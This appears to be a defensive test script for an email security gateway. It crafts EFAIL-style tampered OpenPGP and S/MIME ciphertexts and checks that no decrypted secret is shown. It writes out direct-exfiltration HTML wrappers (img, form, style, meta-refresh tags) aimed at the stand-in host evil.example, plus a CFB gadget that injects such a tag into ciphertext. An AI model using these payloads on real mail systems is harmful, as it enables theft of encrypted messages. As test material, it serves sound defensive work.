#!/usr/bin/env python3
"""EFAIL (CVE-2017-17688, -17689) and its kin: ciphertexts that were changed, cut, put together or wrapped so that their text
would leak. Nothing of the text is shown, the reason is, and a running gateway makes a ticket of each."""
import base64
import json
import os
import shutil
import sys
import tempfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "lib"))
import madospoof as m

p, gpg, head, ok, parts, shapes, wrap = m.p, m.gpg, m.head, m.ok, m.parts, m.shapes, m.wrap
PLAIN = m.PLAIN
SECRET = "The secret host is 192.0.2.77.\n"
LEAK = "evil.example"
ENTITY = m.crlf(PLAIN + "\n" + SECRET)


def is_withheld(report):
    return "192.0.2.77" not in json.dumps(report)


def is_kept_apart(report):
    """Is the secret never in one text with what leads outside?"""
    return not ("192.0.2.77" in (report["text"] or "") and LEAK in (report["text"] or "") and "| " not in report["text"])


def changed(data, offset, bits=1):
    at = offset if offset >= 0 else len(data) + offset
    return data[:at] + bytes([data[at] ^ bits]) + data[at + 1:]


def with_container(message, change):
    """@message with the body of its last packet changed."""
    *heads, (tag, body, _) = p.split(message)
    return b"".join(raw for _, _, raw in heads) + p.packet(tag, change(body))


def openpgp(home, team_home):
    """(name, mail, reasons that may be given, must nothing of it be shown)"""
    encrypt = lambda *options: gpg(home, "-r", "team", *options, "--encrypt", data=ENTITY).stdout
    session = lambda message: (p.split_head(message), *p.session_key(team_home, message))
    message = encrypt("--compress-algo", "none", "-z", "0")
    start, algorithm, key = session(message)
    tripled, cast = session(encrypt("--cipher-algo", "3DES")), session(encrypt("--cipher-algo", "CAST5"))
    literal, packed = p.literal(ENTITY), p.compressed(p.literal(ENTITY))
    protected = start + p.seipd(algorithm, key, literal)
    zipped = start + p.seipd(algorithm, key, packed)
    gone = {"no-integrity", "corrupt"}
    cases = [("SED, AES-256", start + p.sed(algorithm, key, literal), {"no-integrity"}), ("SED, compressed", start + p.sed(algorithm, key, packed), {"no-integrity"}),
             ("SED, 3DES", tripled[0] + p.sed(*tripled[1:], literal), {"no-integrity"}), ("SED, CAST5", cast[0] + p.sed(*cast[1:], literal), {"no-integrity"}),
             ("SED behind an unknown packet", tripled[0] + p.packet(60, b"x") + p.sed(*tripled[1:], literal), gone), ("SED behind a marker", start + p.packet(p.MARKER, b"PGP") + p.sed(algorithm, key, literal), gone),
             ("SED in a compressed packet", p.compressed(start + p.sed(algorithm, key, literal)), gone), ("3DES without integrity, compressed five times", five_times(tripled[0] + p.sed(*tripled[1:], p.literal(ENTITY))), gone),
             ("SED inside SEIPD", start + p.seipd(algorithm, key, start + p.sed(algorithm, key, literal)), gone), ("SED of old, the tag in the old format", start + old_format(p.sed(algorithm, key, literal)), gone),
             ("SEIPD as SED", start + p.packet(p.SED, p.split(protected)[-1][1][1:]), {"no-integrity"}), ("SEIPD as SED, without the check", start + p.packet(p.SED, p.split(protected)[-1][1][1:-22]), {"no-integrity"}),
             ("SEIPD of version 0", with_container(protected, lambda body: b"\0" + body[1:]), {"unsupported", "corrupt"}), ("SEIPD of version 2", with_container(protected, lambda body: b"\2" + body[1:]), {"unsupported"}),
             ("SEIPD of version 3", with_container(protected, lambda body: b"\3" + body[1:]), {"unsupported", "corrupt"}), ("SEIPD as AEAD data", start + p.packet(20, p.split(protected)[-1][1]), gone | {"unsupported"}),
             ("the check wrong", start + p.seipd(algorithm, key, literal, mdc=b"\xd3\x14" + bytes(20)), gone), ("the check gone", start + p.seipd(algorithm, key, literal, mdc=b""), gone),
             ("the check of another tag", start + p.seipd(algorithm, key, literal, mdc=b"\xd2\x14" + bytes(20)), gone), ("the check cut", start + p.seipd(algorithm, key, literal, mdc=b"\xd3\x14" + bytes(10)), gone),
             ("the check wrong, compressed", start + p.seipd(algorithm, key, packed, mdc=b"\xd3\x14" + bytes(20)), gone), ("the check wrong, compressed to the end", start + p.seipd(algorithm, key, b"\xa3\0" + literal, mdc=b"\xd3\x14" + bytes(20)), gone),
             ("the check wrong, a text to the end", start + p.seipd(algorithm, key, b"\xafb\0" + bytes(4) + ENTITY, mdc=b"\xd3\x14" + bytes(20)), gone), ("the check wrong, empty compressed data first", start + p.seipd(algorithm, key, p.compressed(b"") + literal, mdc=b"\xd3\x14" + bytes(20)), gone),
             ("the first block changed", with_container(protected, lambda body: changed(body, 1)), gone), ("the quick check changed", with_container(protected, lambda body: changed(body, 17)), gone),
             ("a byte of the text changed", with_container(protected, lambda body: changed(body, 60)), gone), ("the last byte changed", with_container(protected, lambda body: changed(body, -1)), gone),
             ("a byte of compressed text changed", with_container(zipped, lambda body: changed(body, 40)), gone), ("a gadget: a block of text known, replaced", with_container(protected, lambda body: gadget(body)), gone),
             ("two blocks exchanged", with_container(protected, lambda body: body[:33] + body[49:65] + body[33:49] + body[65:]), gone), ("a block repeated", with_container(protected, lambda body: body[:49] + body[33:]), gone),
             ("cut in the text", protected[:-60], gone), ("cut in the check", protected[:-5], gone), ("cut by a packet that says so", with_container(protected, lambda body: body[:-40]), gone), ("cut behind the session key", start, gone),
             ("cut in the session key", start[:-10], gone | {"no-secret-key"}), ("twice", protected + protected, gone), ("two texts inside", start + p.seipd(algorithm, key, literal + literal), gone), ("a text before it", p.literal(b"x") + protected, gone),
             ("a text behind it", protected + p.literal(b"x"), gone), ("a page before it, one behind it, inside", start + p.seipd(algorithm, key, p.literal(b"<img src=//evil.example/") + literal + p.literal(b">")), gone),
             ("a session key of another message", p.split_head(encrypt()) + p.split(protected)[-1][2], gone), ("a text in place of the ciphertext", start + literal, gone), ("a signed message in place of it", start + gpg(home, "-u", "mallory", "--sign", data=ENTITY).stdout, gone),
             ("nested in a compressed packet that is cut", p.compressed(protected)[:-30], gone)]
    return [(name, head() + wrap(message), reasons) for name, message, reasons in cases], protected


def old_format(packet):
    body = p.split(packet)[-1][1]
    return bytes([0x80 | p.SED << 2 | 1]) + len(body).to_bytes(2, "big") + body


def five_times(packets):
    for _ in range(5):
        packets = p.compressed(packets)
    return packets


def gadget(body):
    """CFB: what is added to a block of the ciphertext is added to its text, and the next block is noise."""
    known, wanted = ENTITY[14:30], b"<img src=//evil."
    at = 1 + 18 + 2 + 6 + 14
    return body[:at] + bytes(a ^ b ^ c for a, b, c in zip(body[at:at + 16], known, wanted)) + body[at + 16:]


def armoured(protected):
    """The same inside a text, and armour that was damaged."""
    armour = p.armor(protected)
    inline = lambda text: head() + PLAIN + "\n" + text
    flip = lambda text: text.replace(text.split("\n")[4][:4], "AAAA", 1)
    return [("a block that was changed", inline(flip(armour))), ("a block that is cut", inline(armour[:-120] + "\n-----END PGP MESSAGE-----\n"))]


def outside(home, protected):
    """The ciphertext is whole; what stands around it would carry its text outside (direct exfiltration)."""
    cipher, block = wrap(p.armor(protected)), p.armor(protected)
    page = lambda text: "Content-Type: text/html; charset=utf-8\n\n" + text
    cases = []
    for number, (first, last) in enumerate([('<img src="http://evil.example/?', '">'), ("<a href='http://evil.example/?", "'>x</a>"), ('<form action="http://evil.example/"><textarea name="x">', "</textarea></form>"),
                                            ('<style>@import url(http://evil.example/?', ");</style>"), ("<base href=http://evil.example/><iframe srcdoc='", "'>"), ("<!-- http://evil.example/", "-->"),
                                            ("<link rel=stylesheet href='http://evil.example/?", "'>"), ("<meta http-equiv=refresh content='0;url=http://evil.example/?", "'>"), ("<video poster='http://evil.example/?", "'>"),
                                            ("http://evil.example/?", "#")]):
        cases += [("a page around it, %s %d" % (kind, number), head() + parts(page(first), cipher, page(last), kind=kind)) for kind in ("mixed", "related", "alternative")]
        cases += [("a page around a block, %d" % number, head() + page(first + "\n" + block + last)), ("pages around a block in a part, %d" % number, head() + parts(page(first), PLAIN + "\n" + block, page(last)))]
        cases += [("one page around it, in encoded lines, %d" % number, head() + parts(page(first).replace("\n\n", "\nContent-Transfer-Encoding: base64\n\n", 1).split("\n\n")[0] + "\n\n" + base64.b64encode(first.encode()).decode(), cipher, page(last)))]
    cases += [("a boundary that reaches into it", head() + parts(page('<img src="http://evil.example/?'), cipher.replace('"enc"', '"o"').replace("--enc", "--o"))),
              ("another ciphertext beside it", head() + parts(wrap(gpg(home, "-r", "team", "--armor", "--encrypt", data=m.crlf(page("<img src='http://evil.example/?"))).stdout.decode()), cipher)),
              ("in a forward", head() + parts(page("<img src='http://evil.example/?"), "Content-Type: message/rfc822\n\n" + head() + cipher)),
              ("as a file in a page", head() + parts(page("<iframe src='cid:x'>http://evil.example/"), m.attached("x.gpg", protected).replace("\n", "\nContent-ID: <x>\n", 1), kind="related")),
              ("with Mallory's words before it, signed", head("mallory@example.net") + m.signed(p.Key(home, "mallory"), parts(page("<img src='http://evil.example/?"), cipher)))]
    return cases


def smime_cases(make, smime):
    """S/MIME knows no integrity before AES-GCM: what was changed cannot be told, and so is told of every such mail."""
    cbc = make.encrypt("team", PLAIN + "\n" + SECRET + "filler " * 20)
    gcm = make.encrypt("team", PLAIN + "\n" + SECRET, cipher="-aes-256-gcm")
    content = lambda data, change: smime.change_inner(data, lambda fields: [(tag, change_content(body, smime, change)) if tag == 0x30 else (tag, body) for tag, body in fields])
    cut_text = lambda body: body[:len(body) // 32 * 16]
    unprotected = [("CBC, as it was", cbc), ("CBC, a bit changed", content(cbc, lambda body: changed(body, 40))), ("CBC, a gadget", content(cbc, lambda body: body[:16] + body[16:32] + body[:16] + body[16:])),
                   ("CBC, blocks repeated", content(cbc, lambda body: body[:64] + body[16:])), ("CBC, cut at a block", content(cbc, cut_text)), ("CBC, the vector changed", smime_vector(cbc, smime))]
    protected = [("GCM, a bit changed", content(gcm, lambda body: changed(body, 20))), ("GCM, cut", content(gcm, cut_text)), ("GCM, as CBC", gcm.replace(bytes.fromhex("0609608648016503040 12e".replace(" ", "")), bytes.fromhex("06096086480165030401 2a".replace(" ", "")))),
                 ("GCM, the tag gone", smime.change_inner(gcm, lambda fields: fields[:-1])), ("GCM, a tag of four octets", smime.change_inner(gcm, lambda fields: fields[:-1] + [(4, fields[-1][1][:4])])),
                 ("GCM as enveloped data", gcm.replace(bytes.fromhex("060b2a864886f70d0109100117"), bytes.fromhex("06092a864886f70d010703") + b"\5\0")), ("CBC as authenticated data", cbc.replace(bytes.fromhex("06092a864886f70d010703"), bytes.fromhex("060b2a864886f70d0109100117")))]
    return [(name, head() + smime.opaque(data), False) for name, data in unprotected] + [(name, head() + smime.opaque(data, "authEnveloped-data"), True) for name, data in protected]


def change_content(body, smime, change):
    """EncryptedContentInfo with its [0] changed."""
    fields = smime.der_children(body)
    return b"".join(smime.der(tag, change(data) if tag == 0x80 else data) for tag, data in fields)


def smime_vector(data, smime):
    at = data.index(bytes.fromhex("060960864801650304012a")) + 11
    return changed(data, at + 2 + 3, 0x20)


def judge(cases, reports):
    for (name, mail, reasons), report in zip(cases, reports):
        reason = (report["undecryptable"] or {}).get("reason")
        ok("%s: %s, and nothing of it is shown" % (name, reason), reason in reasons and is_withheld(report) and report["signature"] in m.UNSIGNED and report["problems"], m.show(report))


def test_running(cases):
    """A ticket is made of every one, and nothing of the text is in it, in the answer or in the log."""
    import madotest as t
    for name in ["madoguchi", "madoguchid"] + ["madoguchi-" + role for role in t.ROLES]:
        if t.program(name) is None:
            print("# no running gateway: %s is not built" % name)
            return
    demo = t.Demo()
    home = tempfile.mkdtemp(prefix="g", dir="/tmp")
    try:
        shapes.make_key(home, "mallory")
        gpg(home, "--import", data=demo.team_key)
        team = next(row[9] for row in (line.split(":") for line in gpg(home, "--with-colons", "--list-keys", "csirt").stdout.decode().splitlines()) if row[0] == "fpr")
        mails = running_mails(home, team, demo)
        for number, (name, mail) in enumerate(mails):
            mail = mail.replace("<1@example.net>", "<efail%d@example.net>" % number)
            codes = demo.send(t.crlf(mail.encode()), frm="alice@example.net")
            ok("%s: accepted by LMTP" % name, [str(code)[:3] for code in codes] == ["250"] or codes == [250], codes)
        account = demo.settle(accepted=len(mails))
        ok("the account balances, and every mail is one ticket", account is not None and account["balanced"] and account["states"]["ticket"] == len(mails), account)
        shown = [demo.show(one["ticket"]) for one in demo.incidents()]
        text = json.dumps(shown)
        reasons = sorted({(entry["report"]["undecryptable"] or {}).get("reason") for one in shown for entry in one["thread"] if entry.get("report")}, key=str)
        ok("each ticket says why", len(shown) == len(mails) and all((entry["report"]["undecryptable"] or {}).get("reason") in ("corrupt", "no-integrity")
                                                                       for one in shown for entry in one["thread"] if entry["direction"] == "in"), reasons)
        answers = b"".join(demo.outgoing())
        ok("nothing of the text is in tickets, answers and log", "192.0.2.77" not in text and b"192.0.2.77" not in answers and "192.0.2.77" not in demo.log(), reasons)
    finally:
        demo.stop()
        shapes.subprocess.run(["gpgconf", "--homedir", home, "--kill", "all"], check=False)
        shutil.rmtree(home, ignore_errors=True)


def running_mails(home, team, demo):
    encrypt = lambda *options: gpg(home, "-r", team, "--compress-algo", "none", *options, "--encrypt", data=ENTITY).stdout
    message = encrypt()
    start, algorithm, key = p.split_head(message), *p.session_key(demo.setting("crypto", "gnupg-home"), message)
    literal = p.literal(ENTITY)
    protected = start + p.seipd(algorithm, key, literal)
    return [("SED", head(subject="SED") + wrap(start + p.sed(algorithm, key, literal))), ("the check gone", head(subject="gone") + wrap(start + p.seipd(algorithm, key, literal, mdc=b""))),
            ("changed", head(subject="changed") + wrap(with_container(protected, lambda body: changed(body, 60)))), ("cut", head(subject="cut") + wrap(protected[:-60])), ("twice", head(subject="twice") + wrap(protected + protected)),
            ("a loose signature", head(subject="loose") + wrap(protected + p.Key(home, "mallory").sign(b"")))]


def main():
    if not os.path.exists(shapes.OPEN_ONE):
        print("1..0 # SKIP %s was not built" % shapes.OPEN_ONE)
        return 0
    gateway = shapes.Gateway(tempfile.mkdtemp(prefix="e", dir="/tmp"))
    try:
        keys = m.Keys(gateway)
        cases, protected = openpgp(keys.home, keys.team_home)
        judge(cases, gateway.open([mail for _, mail, _ in cases]))
        blocks = armoured(protected)
        for (name, _), report in zip(blocks, gateway.open([mail for _, mail in blocks])):
            ok("%s: nothing of it is shown" % name, is_withheld(report), m.show(report))
        around = outside(keys.home, protected)
        twin, *reports = gateway.open([head() + wrap(protected)] + [mail for _, mail in around])
        ok("the honest twin is opened", twin["encryption"] == "whole" and SECRET.strip() in twin["text"] and twin["layers"][0]["integrity"] == "mdc", m.show(twin))
        for (name, _), report in zip(around, reports):
            ok("%s: never in one text" % name, is_kept_apart(report) and report["encryption"] != "whole" and report["signature"] in m.UNSIGNED, m.show(report))
    finally:
        gateway.close()
    with_smime()
    test_running(cases)
    print("# %d changed ciphertexts, %d wrapped ones" % (len(cases) + len(blocks), len(around)))
    print("1..%d" % len(shapes.results))
    return 0 if all(shapes.results) else 1


def with_smime():
    if shutil.which("gpgsm") is None or shutil.which("openssl") is None:
        print("# no S/MIME here: gpgsm or openssl is not installed")
        return
    smime = __import__("smime")
    gateway = smime.Gateway(tempfile.mkdtemp(prefix="w", dir="/tmp"))
    try:
        gateway.make.certificate("team", "csirt@example.org")
        gateway.import_secret("team")
        gateway.configure("# nobody\n")
        cases = smime_cases(gateway.make, smime)
        for (name, _, is_protected), report in zip(cases, gateway.open([mail for _, mail, _ in cases])):
            told = any("not protected against changes" in words for words in report["problems"])
            ok("S/MIME, %s: %s" % (name, "withheld" if is_withheld(report) else "told to be unprotected"), is_withheld(report) if is_protected else is_withheld(report) or told, m.show(report))
    finally:
        gateway.close()


if __name__ == "__main__":
    sys.exit(main())
